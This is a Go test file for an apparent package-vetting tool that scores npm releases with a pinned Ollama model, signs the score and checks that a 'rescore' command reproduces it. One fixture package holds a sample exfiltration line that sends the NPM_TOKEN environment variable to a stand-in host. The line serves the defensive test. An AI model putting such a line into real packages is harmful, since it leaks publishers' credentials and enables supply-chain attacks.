package main

import (
	"context"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vouchpm/vouch/enclave/wire"
	"github.com/vouchpm/vouch/host/store"
	"github.com/vouchpm/vouch/models/ollamatest"
	"github.com/vouchpm/vouch/scorer"
	"github.com/vouchpm/vouch/scorer/heuristics"
	"github.com/vouchpm/vouch/scorer/model"
)

// TestRescoreWithOllama scores a release with the tiny pinned test model on a
// real ollama server, records it, and has vouch rescore re-run the model and
// match the record bit for bit; a manifest with another modelHash is refused.
func TestRescoreWithOllama(t *testing.T) {
	srv := ollamatest.Start(t)
	f := newFlowEnv(t)
	ctx := context.Background()
	manifest := filepath.Join("..", "..", "models", "tiny-test.json")
	pin, err := model.LoadPin(manifest)
	if err != nil {
		t.Fatal(err)
	}
	mc := model.New(srv.Client, pin, model.Config{})
	if err := mc.Verify(ctx); err != nil {
		t.Fatal(err)
	}
	basePath, baseTgz := packDir(t, "widget", "1.0.0", "module.exports = 1\n")
	newPath, newTgz := packDir(t, "widget", "1.0.1", "module.exports = 2\nfetch('http://x.example/' + process.env.NPM_TOKEN)\n")
	engine := &scorer.Engine{Analyzer: heuristics.New(nil), Model: mc, Pin: pin}
	score, rep, err := engine.Evaluate(ctx, scorer.Request{PackageName: "widget", Version: "1.0.1", Base: baseTgz, New: newTgz})
	if err != nil {
		t.Fatal(err)
	}
	if score.ModelHash != pin.Hash {
		t.Fatalf("the engine did not use the model: modelHash %x", score.ModelHash)
	}
	msg, _ := json.Marshal(score)
	repJSON, _ := json.Marshal(rep)
	signed, err := (&scorer.Signer{Key: f.chain.Scorer, Domain: f.chain.Domain, Attester: f.coord.att}).Sign(ctx, score, rep)
	if err != nil {
		t.Fatal(err)
	}
	id := wire.HexDigest(signed.Digest)
	if _, err := f.store.CreateRelease(ctx, store.Release{ID: id, Package: "widget", Version: "1.0.1", ContentHash: "0x00", Proposal: []byte(`{}`)}); err != nil {
		t.Fatal(err)
	}
	if err := f.store.PutScore(ctx, store.Score{ReleaseID: id, Package: "widget", Version: "1.0.1", Score: int(score.Score), Message: msg, Sig: signed.Signature, Evidence: signed.Quote, Report: repJSON}); err != nil {
		t.Fatal(err)
	}
	args := []string{"rescore", "widget@1.0.1", "--base", basePath, "--new", newPath, "--ollama", srv.URL.String()}
	if code, _, errOut := f.try(t, "", args...); code != exitUsage || !strings.Contains(errOut, "pass --model MANIFEST") {
		t.Fatalf("rescore without --model: exit %d %s", code, errOut)
	}
	code, out, errOut := f.try(t, "", append(args, "--model", manifest)...)
	if code != 0 || !strings.Contains(out, "IDENTICAL") {
		t.Fatalf("rescore with the pinned model: exit %d\n%s%s", code, out, errOut)
	}
	other := filepath.Join("..", "..", "models", "gemma3-4b.json")
	if code, _, errOut := f.try(t, "", append(args, "--model", other)...); code != exitFindings || !strings.Contains(errOut, "the score was made with") {
		t.Fatalf("rescore with another model's manifest: exit %d %s", code, errOut)
	}
}
